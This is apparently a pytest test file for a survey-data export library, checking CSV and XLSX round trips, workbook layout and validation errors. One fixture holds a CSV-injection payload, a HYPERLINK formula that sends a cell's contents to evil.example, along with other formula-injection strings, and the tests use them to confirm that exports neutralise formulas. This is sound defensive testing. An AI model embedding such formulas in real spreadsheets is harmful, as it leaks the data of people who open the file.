"""Exports of answers: long CSV, wide CSV and XLSX, and the round trip long -> wide -> long."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from s3stresstest.campaign import read_responses
from s3stresstest.campaign.synthetic import generate_campaign
from s3stresstest.campaign.territories import demo_regions
from s3stresstest.errors import InputError
from s3stresstest.instrument import load_builtin
from s3stresstest.transfer import (
    from_wide,
    import_wide,
    read_wide,
    to_wide,
    write_long_csv,
    write_wide_csv,
    write_wide_xlsx,
)


def canon(df: pd.DataFrame) -> pd.DataFrame:
    """Same answers, whatever the row order or dtype."""
    return df.astype(str).sort_values(["respondent_id", "item"]).reset_index(drop=True)


def answered(df: pd.DataFrame) -> pd.DataFrame:
    return canon(df[df["value"] != ""])


@pytest.fixture
def tiny_responses():
    rows = [
        ("r1", "ITC1", "policy_maker", "years", "3"),
        ("r1", "ITC1", "policy_maker", "q1", "yes"),
        ("r1", "ITC1", "policy_maker", "q3", "a c"),
        ("r1", "ITC1", "policy_maker", "open1", 'Says "hello", then; stops\nnew line'),
        ("r2", "DE2", "company", "q1", "dk"),
        ("r2", "DE2", "company", "q2", "no"),
        ("r2", "DE2", "company", "q4", ""),
        ("r3", "DE2", "cluster_manager", "q3", "b"),
    ]
    return pd.DataFrame(rows, columns=["respondent_id", "region", "stakeholder_group", "item", "value"])


@pytest.fixture(scope="module")
def synthetic():
    ins = load_builtin()
    return ins, generate_campaign(ins, demo_regions().head(4))


def test_to_wide_has_one_row_per_respondent_and_one_column_per_item(tiny_instrument, tiny_responses):
    wide = to_wide(tiny_responses, tiny_instrument)
    items = [i.name for i in tiny_instrument.answerable_items]
    assert list(wide.columns) == ["respondent_id", "region", "stakeholder_group", *items]
    assert list(wide["respondent_id"]) == ["r1", "r2", "r3"]
    r1 = wide.iloc[0]
    assert r1["q3"] == "a c"  # select_multiple stays space-separated
    assert r1["q2"] == ""  # not answered
    assert wide.iloc[2]["stakeholder_group"] == "cluster_manager"


def test_round_trip_long_wide_long(tiny_instrument, tiny_responses):
    back = from_wide(to_wide(tiny_responses, tiny_instrument), tiny_instrument)
    assert answered(back).equals(answered(tiny_responses))
    # every item of every respondent comes back, unanswered ones blank
    assert len(back) == 3 * len(tiny_instrument.answerable_items)


def test_round_trip_keeps_language(tiny_instrument, tiny_responses):
    with_lang = tiny_responses.assign(
        language=tiny_responses["respondent_id"].map({"r1": "de", "r2": "en", "r3": "en"})
    )
    wide = to_wide(with_lang, tiny_instrument)
    assert list(wide.columns[:4]) == ["respondent_id", "region", "stakeholder_group", "language"]
    back = from_wide(wide, tiny_instrument)
    assert answered(back).equals(answered(with_lang))


def test_round_trip_of_the_synthetic_campaign_through_csv_and_xlsx(synthetic, tmp_path):
    ins, campaign = synthetic
    x = campaign.responses
    wide = to_wide(x, ins)
    # the built-in's own 'stakeholder_group' question cannot share the respondent column's name
    assert "profile/stakeholder_group" in wide.columns
    assert canon(from_wide(wide, ins)).equals(canon(x))
    csv_path = write_wide_csv(x, ins, tmp_path / "wide.csv")
    xlsx_path = write_wide_xlsx(x, ins, tmp_path / "wide.xlsx", synthetic=True, notice=campaign.description)
    assert canon(read_wide(csv_path, ins)).equals(canon(x))
    result = import_wide(xlsx_path, ins)
    assert canon(result.responses).equals(canon(x))
    assert result.report.respondents == x["respondent_id"].nunique()


def test_long_csv_is_the_core_format(tiny_instrument, tiny_responses, tmp_path):
    path = write_long_csv(tiny_responses, tmp_path / "long.csv")
    assert path.read_text(encoding="utf-8").splitlines()[0] == "respondent_id,region,stakeholder_group,item,value"
    assert canon(read_responses(path, tiny_instrument)).equals(canon(tiny_responses))


def test_wide_xlsx_layout(synthetic, tmp_path):
    ins, campaign = synthetic
    path = write_wide_xlsx(campaign.responses, ins, tmp_path / "w.xlsx", synthetic=True, notice=campaign.description)
    wb = load_workbook(path)
    assert wb.sheetnames == ["responses", "items", "README"]
    ws = wb["responses"]
    assert ws.freeze_panes == "B2"
    assert all(c.font.bold for c in ws[1])
    assert [c.value for c in ws[1]][:3] == ["respondent_id", "region", "stakeholder_group"]
    assert ws.max_row == campaign.responses["respondent_id"].nunique() + 1
    items = wb["items"]
    assert [c.value for c in items[1]][:5] == ["column", "item", "label", "type", "choices"]
    names = [r[1] for r in items.iter_rows(min_row=2, values_only=True)]
    assert names == [i.name for i in ins.answerable_items]
    first = next(items.iter_rows(min_row=2, values_only=True))
    assert first[2] == ins.item_label(first[1]) and first[3] == ins.item(first[1]).type
    readme = wb["README"]
    assert readme["A1"].value == "SYNTHETIC DATA"
    assert "SYNTHETIC" in readme["A2"].value and campaign.description in readme["A2"].value


def test_real_campaign_xlsx_has_no_readme(tiny_instrument, tiny_responses, tmp_path):
    wb = load_workbook(write_wide_xlsx(tiny_responses, tiny_instrument, tmp_path / "w.xlsx"))
    assert wb.sheetnames == ["responses", "items"]
    # text with quotes, commas and a line break survives
    back = read_wide(tmp_path / "w.xlsx", tiny_instrument)
    assert back[(back.respondent_id == "r1") & (back.item == "open1")]["value"].iloc[0].startswith('Says "hello"')


def test_bad_wide_table_names_row_and_column(tiny_instrument, tiny_responses, tmp_path):
    wide = to_wide(tiny_responses, tiny_instrument)
    wide.loc[1, "q1"] = "maybe"
    wide.loc[2, "region"] = "Bavaria"
    path = tmp_path / "bad.csv"
    wide.to_csv(path, index=False)
    with pytest.raises(InputError) as exc:
        read_wide(path, tiny_instrument)
    text = str(exc.value)
    # r1's open answer holds a line break, so r2 starts on line 4 of the file, r3 on line 5
    assert "bad.csv, line 4, column 'q1': 'maybe' is not a choice of item 'q1'" in text
    assert "bad.csv, line 5, column 'region': 'Bavaria' is not a territory code" in text
    assert len(exc.value.problems) == 2  # once per cell, not once per long row


def test_wide_table_with_unknown_column_is_refused(tiny_instrument, tiny_responses):
    wide = to_wide(tiny_responses, tiny_instrument).assign(q9="yes")
    with pytest.raises(InputError) as exc:
        from_wide(wide, tiny_instrument)
    assert any(p.field == "q9" and p.line == 1 for p in exc.value.problems)


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def _evil(tiny_responses: pd.DataFrame) -> pd.DataFrame:
    df = tiny_responses.copy()
    df.loc[df["item"] == "open1", "value"] = EVIL
    df.loc[df["item"] == "years", "value"] = "-3"
    return df


def test_csv_exports_neutralise_formulas(tiny_instrument, tiny_responses, tmp_path):
    """OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading quote."""
    from s3stresstest.transfer.safe import csv_cell

    df = _evil(tiny_responses)
    long_text = write_long_csv(df, tmp_path / "long.csv").read_text(encoding="utf-8")
    wide_text = write_wide_csv(df, tiny_instrument, tmp_path / "wide.csv").read_text(encoding="utf-8")
    for text in (long_text, wide_text):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'" + EVIL in cells and EVIL not in cells
        assert "-3" in cells  # a plain number stays a number
    assert [csv_cell(v) for v in ("+1+1", "-1+A1", "@SUM(A1)", "\tx", "\rx", "-3", "2.5", "ok")] == [
        "'+1+1",
        "'-1+A1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "-3",
        "2.5",
        "ok",
    ]


def test_xlsx_export_writes_no_live_formula(tiny_instrument, tiny_responses, tmp_path):
    import zipfile

    path = write_wide_xlsx(_evil(tiny_responses), tiny_instrument, tmp_path / "w.xlsx")
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "HYPERLINK" in xml
    ws = load_workbook(path)["responses"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)


def test_item_named_like_a_respondent_column_keeps_its_column_only_when_answered(synthetic, tmp_path):
    """Web answers store the profile question as the respondent's group, never as an item: no
    always-empty `profile/stakeholder_group` column (nor its row in the items sheet)."""
    ins, campaign = synthetic
    x = campaign.responses
    web_like = x[x["item"] != "stakeholder_group"]
    wide = to_wide(web_like, ins)
    assert "profile/stakeholder_group" not in wide.columns and "stakeholder_group" in wide.columns
    assert canon(from_wide(wide, ins, keep_blank=False)).equals(answered(web_like))
    path = write_wide_xlsx(web_like, ins, tmp_path / "w.xlsx")
    items = pd.read_excel(path, sheet_name="items", dtype=str)
    assert "profile/stakeholder_group" not in set(items["column"]) and len(items) == len(wide.columns) - 3
